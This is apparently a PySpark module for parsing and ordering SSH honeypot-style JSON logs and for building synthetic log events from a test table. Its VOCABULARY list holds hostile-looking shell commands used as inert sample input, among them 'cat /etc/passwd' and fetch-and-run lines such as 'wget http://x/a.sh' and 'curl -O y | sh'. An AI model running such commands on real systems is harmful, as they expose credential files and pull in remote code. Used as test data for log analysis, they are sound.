"""Reading raw log lines, stored tables and artefacts."""

from decimal import Decimal

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

from wardlog import schema as S
from wardlog.functions import blank_to_null, one_line_decode, parse_instant, parse_ts

PARSE_SCHEMA = T.StructType([*S.RAW_SCHEMA.fields, T.StructField(S.CORRUPT, T.StringType())])

# fixed values: the command vocabulary of the log view
VOCABULARY = [
    "ls -la", "cat /etc/passwd", "wget http://x/a.sh", "sudo su", "chmod 777 f",
    "crontab -l", "uname -a", "echo hi", "curl -O y | sh", "su",
    "service ssh stop", "python x.py", "whoami", "tail -n 5 log", "ping 10.0.0.1",
    "./run.elf", "history", "zip", "nproc", "free -m",
]


def _paths(roots):
    return [roots] if isinstance(roots, str) else list(roots)


def scan_lines(spark: SparkSession, roots, recursive=True, pattern=S.LOG_FILE_PATTERN) -> DataFrame:
    """Lines of all log files below the roots, with the place they come from."""
    reader = spark.read.option("pathGlobFilter", pattern)
    if recursive:
        reader = reader.option("recursiveFileLookup", "true")
    return with_origin(reader.text(_paths(roots)))


def with_origin(lines: DataFrame) -> DataFrame:
    """Adds file, block offset and row number; together they give the line order of a file."""
    return lines.select(
        "value",
        F.col("_metadata.file_path").alias("file"),
        F.col("_metadata.file_block_start").alias("block"),
        F.monotonically_increasing_id().alias("row"),
    )


def parse_lines(lines: DataFrame, keys=False, blank=False) -> DataFrame:
    """One row per non-blank line; `_corrupt_record` holds a line that is no JSON object.

    A line with something after its object is corrupt too. The parser stops at the end of
    the object, so lines with text after a closing brace are counted as array elements.
    `keys=True` adds the object's key names, for callers that tell a key with the value null
    from a missing one; it costs a second pass over the text. `blank=True` keeps blank lines, marked in `blank`.
    """
    record = F.from_json("value", PARSE_SCHEMA, {
        "mode": "PERMISSIVE", "columnNameOfCorruptRecord": S.CORRUPT, "allowSingleQuotes": "false",
    })
    text = F.trim(F.col("value"))
    whole = F.when(
        text.rlike(r"\}\s*\S"), F.json_array_length(F.concat(F.lit("["), text, F.lit("]"))) == 1
    ).otherwise(F.lit(True))
    is_object = text.startswith("{") & text.endswith("}") & F.coalesce(whole, F.lit(False))
    keep = [c for c in lines.columns if c != "value"]
    # The array of one element makes a line's parse a generator. Filters on the parsed fields stay
    # above a generator; they would else be pushed down together with copies of the parse.
    once = F.array(F.struct(is_object.alias("is_object"), F.when(is_object, record).alias("record")))
    is_blank = F.coalesce(text == "", F.lit(True))
    parsed = lines.where(F.lit(blank) | ~is_blank).select(*keep, "value", F.inline(once), is_blank.alias("is_blank"))
    good = F.col("is_object") & F.col(f"record.{S.CORRUPT}").isNull()
    return parsed.select(
        *[F.when(good, F.col(f"record.{n}")).alias(n) for n in S.RAW_FIELDS],
        F.when(~good & ~F.col("is_blank"), F.col("value")).alias(S.CORRUPT),
        *([F.json_object_keys("value").alias("keys")] if keys else []),
        *([F.col("is_blank").alias("blank")] if blank else []),
        *keep,
    )


def count_lines(parsed: DataFrame, name="lines") -> DataFrame:
    """Counts good, bad and blank lines of `parse_lines(..., blank=True)` while they pass; `name` finds the counts in
    an `Observation` or in the progress of a stream."""
    return parsed.observe(
        name, F.count_if(F.col(S.CORRUPT).isNull() & ~F.col("blank")).alias("good"), F.count_if(F.col(S.CORRUPT).isNotNull()).alias("bad"),
        F.count_if("blank").alias("blank"))


def with_order(parsed: DataFrame) -> DataFrame:
    """Adds `ts` and the total order of events: time first, then place in the scan.

    Every first/last aggregate carries the order, so it is one number of fixed width, which a hash
    aggregate updates in place. Lines whose time cannot be parsed come first in `ord`, which decides what
    is last, and last in `first_ord`, which decides what is first: where a session has a line with a time,
    a line without one decides neither.
    """
    since_year_1 = (F.unix_micros(parse_instant("timestamp")) + F.lit(62_135_596_800_000_001)).cast("decimal(18,0)")
    at = F.coalesce(since_year_1, F.lit(0).cast("decimal(18,0)"))
    order = (at * F.lit(Decimal(10**19)).cast("decimal(20,0)") + F.col("row").cast("decimal(19,0)")).cast("decimal(38,0)")
    timed = parsed.withColumns({"ts": parse_ts("timestamp"), "ord": order})
    late = (F.col("ord") + F.lit(Decimal(10**37)).cast("decimal(38,0)")).cast("decimal(38,0)")
    return timed.withColumn("first_ord", F.when(since_year_1.isNull(), late).otherwise(F.col("ord")))


def scan_jsonl(spark: SparkSession, roots, recursive=True, pattern=S.LOG_FILE_PATTERN) -> DataFrame:
    """Events of all log files; lines that are no JSON object are left out."""
    parsed = parse_lines(scan_lines(spark, roots, recursive, pattern))
    return with_order(parsed.where(F.col(S.CORRUPT).isNull()).drop(S.CORRUPT))


def scan_quarantine(spark: SparkSession, roots, recursive=True, pattern=S.LOG_FILE_PATTERN) -> DataFrame:
    """The lines that scan_jsonl leaves out."""
    parsed = parse_lines(scan_lines(spark, roots, recursive, pattern))
    return parsed.where(F.col(S.CORRUPT).isNotNull()).select(S.CORRUPT, "file")


def discover(spark: SparkSession, roots, recursive=True, pattern=S.LOG_FILE_PATTERN) -> DataFrame:
    """Matching files with their sizes; no content is read."""
    reader = (
        spark.read.format("binaryFile").option("pathGlobFilter", pattern)
        .option("recursiveFileLookup", str(recursive).lower())
    )
    return reader.load(_paths(roots)).select("path", "length")


def scan_csv(spark: SparkSession, path, schema, multi_line=False, escaped=True) -> DataFrame:
    """Stored sessions or events. Columns are taken by name; missing ones become NULL.

    All files must have the same header: the names come from one of them, and another header is an
    error, not a swap of columns. A record is one line, as `write_csv` writes them (`escaped`), so large
    files are split. For files of other origin whose cells span lines, pass `multi_line=True, escaped=False`.
    """
    reader = spark.read.option("header", "true").option("escape", '"').option("multiLine", str(multi_line).lower())
    raw = reader.schema(reader.csv(path).schema).option("enforceSchema", "false").csv(path)
    if escaped:
        raw = raw.select(*[one_line_decode(F.col(c)).alias(c) for c in raw.columns])
    present = set(raw.columns)
    out = []
    for field in schema.fields:
        if field.name not in present:
            out.append(F.lit(None).cast(field.dataType).alias(field.name))
        elif isinstance(field.dataType, T.StringType):
            out.append(blank_to_null(F.col(field.name)).alias(field.name))
        else:
            out.append(F.col(field.name).try_cast(field.dataType).alias(field.name))
    return raw.select(*out)


def events_from_table(events: DataFrame) -> DataFrame:
    """Raw events out of the `events` test table (see FIXTURES section 5)."""
    k = F.get_json_object("props", "$.k").cast("bigint")
    base = events.select("event_id", "ts", "user_id", "event_type", "value", k.alias("k"))
    vocabulary = F.array(*[F.lit(c) for c in VOCABULARY])
    kind = (
        F.when(F.col("event_type") == "signup", S.EVENT_LOGIN_SUCCESS)
        .when(F.col("event_type") == "error", S.EVENT_LOGIN_FAILED)
        .when(F.col("event_type") == "purchase", S.EVENT_CLOSED)
        .otherwise(S.EVENT_COMMAND)
    )
    is_login = F.col("event_type").isin("signup", "error")

    def numbered(prefix, modulus):
        return F.concat(F.lit(prefix), (F.col("k") % modulus).cast("string"))

    return base.select(
        F.concat_ws("-", F.col("user_id").cast("string"), F.to_date("ts").cast("string")).alias("session"),
        kind.alias("eventid"),
        F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'").alias("timestamp"),
        F.concat(F.lit("10.0.0."), F.col("user_id").cast("string")).alias("src_ip"),
        F.when(is_login, numbered("u", 10)).alias("username"),
        F.when(is_login, numbered("p", 7)).alias("password"),
        F.when(
            F.col("event_type").isin("click", "view"),
            F.element_at(vocabulary, (F.col("k") % len(VOCABULARY) + 1).cast("int")),
        ).alias("input"),
        numbered("v", 5).alias("version"),
        numbered("h", 9).alias("hassh"),
        numbered("a", 3).alias("hasshAlgorithms"),
        F.when(F.col("event_type") == "purchase", F.col("value").cast("string")).alias("duration"),
        F.when(F.col("event_type") == "signup", "true").alias("success"),
        F.col("ts").alias("ts"),
        F.col("event_id").alias("ord"),
        F.concat(F.lit("part-"), F.floor(F.hour("ts") / 8).cast("string")).alias("file"),
    )


def load_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return events_from_table(spark.read.parquet(f"{sf_dir}/events.parquet"))
